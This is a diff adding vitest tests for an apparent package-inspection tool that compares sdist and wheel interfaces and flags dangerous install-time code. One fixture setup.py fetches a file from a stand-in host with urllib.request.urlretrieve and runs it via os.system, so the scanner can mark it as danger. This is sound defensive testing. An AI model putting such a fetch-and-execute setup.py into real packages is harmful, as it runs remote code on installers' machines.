@@ -1,0 +1,50 @@
+import { inspection as inspectionShape } from "@packhouse/contract/review/inspection";
+import { expect, test } from "vitest";
+import { compare } from "../compare.ts";
+import { inspect } from "../inspect.ts";
+import { type SamplePackage, sdist, wheel } from "../testing/packages.ts";
+
+const inspected = ({ source, ...what }: SamplePackage) => inspect(source, what);
+
+const code = {
+  "tides/__init__.py": '"""Tides."""\nfrom .table import height\n',
+  "tides/table.py": "def height(at, *, unit='m'):\n    pass\n",
+};
+
+test("an sdist and a wheel of the same code offer the same", async () => {
+  const offered = async (sample: SamplePackage) =>
+    (await inspected(sample)).interface.map(({ kind, name, file }) => `${kind} ${name} ${file}`);
+  const inWheel = await offered(await wheel(code));
+  expect(inWheel).toEqual([
+    "module tides tides/__init__.py",
+    "function tides.height tides/table.py",
+    "module tides.table tides/table.py",
+    "function tides.table.height tides/table.py",
+  ]);
+  expect(await offered(await sdist(code))).toEqual(inWheel);
+});
+
+test("what is hidden or dangerous at installation counts in a new package too, the rest as notices", async () => {
+  const inspection = await inspected(
+    await sdist({
+      ...code,
+      "setup.py":
+        "import os, urllib.request\nurllib.request.urlretrieve('http://a.example/x', 'x')\nos.system('./x')\nfrom setuptools import setup\nsetup()\n",
+      "tides/extra.py": "import subprocess\ndef run(x): subprocess.run(x)\n",
+    }),
+  );
+  expect(inspectionShape.parse(inspection)).toEqual(inspection);
+  const { fresh } = compare(null, inspection).signals;
+  const levels = fresh.map(({ id, level, subject }) => `${level} ${id} ${subject}`);
+  expect(levels).toContain("danger py-setup-code urllib.request.urlretrieve");
+  expect(levels).toContain("danger py-setup-code os.system");
+  expect(levels).toContain("notice process subprocess");
+});
+
+test("code that cannot be parsed is reported and read as far as possible", async () => {
+  const { signals } = await inspected(
+    await wheel({ "tides/__init__.py": "import os\ndef f(:\n  ((\nos.system('x')\n" }),
+  );
+  const found = signals.map(({ id, subject }) => `${id} ${subject}`);
+  expect(found.some((text) => text.startsWith("unparsed"))).toBe(true);
+});
